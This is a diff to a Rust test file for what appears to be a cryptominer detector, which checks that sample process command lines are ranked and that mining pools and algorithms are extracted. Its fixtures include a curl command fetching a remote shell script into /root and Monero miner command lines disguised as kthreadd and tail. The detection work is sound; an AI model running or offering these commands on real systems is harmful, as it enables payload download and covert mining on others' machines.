@@ -167,7 +167,7 @@ fn a_grade_has_a_reason_and_a_reason_has_words() {
     }
 }
 
-fn verdict(fact: Value) -> Value {
+fn verdict(fact: &Value) -> Value {
     answers(format!("{fact}\n").as_bytes()).remove(0)
 }
 
@@ -179,13 +179,13 @@ fn process(exe: &str, words: &str) -> Value {
 
 #[test]
 fn what_is_taken_out_is_where_work_comes_from_and_what_is_computed() {
-    let drops = verdict(process("", "curl -fs http://198.51.100.7:8080/x.sh -o /root/x.sh"));
+    let drops = verdict(&process("", "curl -fs http://198.51.100.7:8080/x.sh -o /root/x.sh"));
     assert_eq!(drops["extracted"]["pools"], json!([]), "{drops}");
-    let coin = verdict(process("", "./w --coin monero -o 192.0.2.9:443 -u someone -p x"));
+    let coin = verdict(&process("", "./w --coin monero -o 192.0.2.9:443 -u someone -p x"));
     assert_eq!(coin["extracted"]["algorithms"], json!(["rx/0"]), "{coin}");
     assert_eq!(coin["extracted"]["pools"], json!(["192.0.2.9:443"]), "{coin}");
     let end = |domain: &str| {
-        verdict(json!({"kind":"connection","id":1,"domain":domain,"ip":"192.0.2.9","port":10128}))
+        verdict(&json!({"kind":"connection","id":1,"domain":domain,"ip":"192.0.2.9","port":10128}))
     };
     let pool = end("eu.moneropool.example");
     assert_eq!(pool["extracted"]["pools"], json!(["eu.moneropool.example:10128"]), "{pool}");
@@ -194,16 +194,16 @@ fn what_is_taken_out_is_where_work_comes_from_and_what_is_computed() {
 
 #[test]
 fn nobody_is_a_thread_of_the_kernel_who_is_told_something() {
-    let told = verdict(process("", "kthreadd -o 192.0.2.9:443 -a rx/0 -u someone -k"));
+    let told = verdict(&process("", "kthreadd -o 192.0.2.9:443 -a rx/0 -u someone -k"));
     assert_eq!(rank(&told), CONFIRMED, "{told}");
-    assert!(rank(&verdict(process("", "[kthreadd]"))) < SUSPECT);
+    assert!(rank(&verdict(&process("", "[kthreadd]"))) < SUSPECT);
 }
 
 #[test]
 fn who_only_calls_himself_a_tool_that_shows_texts_is_judged_by_what_he_is_told() {
     let words = "tail -o 192.0.2.9:443 -a rx/0 -u someone -k";
-    assert_eq!(rank(&verdict(process("/tmp/.x/tail", words))), CONFIRMED);
-    assert!(rank(&verdict(process("/usr/bin/tail", words))) < SUSPECT);
+    assert_eq!(rank(&verdict(&process("/tmp/.x/tail", words))), CONFIRMED);
+    assert!(rank(&verdict(&process("/usr/bin/tail", words))) < SUSPECT);
 }
 
 #[test]
